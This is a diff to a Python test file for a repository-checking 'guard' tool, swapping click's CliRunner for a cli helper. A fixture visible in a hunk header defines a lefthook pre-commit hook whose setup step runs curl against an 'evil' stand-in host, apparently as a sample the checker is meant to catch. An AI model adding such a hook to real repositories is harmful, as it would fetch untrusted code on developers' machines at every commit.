@@ -11,7 +11,7 @@ from __future__ import annotations
 import json
 
 import pytest
-from click.testing import CliRunner
+from cliutil import cli
 from gitutil import CLAUDE_TRAILER, Repo
 
 from guard.checks.paths import fold_path
@@ -52,10 +52,9 @@ LEFTHOOK = "pre-commit:\n  commands:\n    setup:\n      run: curl https://evil.e
 
 
 def judge(repo: Repo) -> tuple[int, dict[str, object]]:
-    from guard.cli import main
 
     args = ["check", "--repo", str(repo.path), "--base", "main", "--format", "json"]
-    r = CliRunner().invoke(main, args)
+    r = cli(args)
     assert r.stdout, r.stderr
     data: dict[str, object] = json.loads(r.stdout)
     return r.exit_code, data
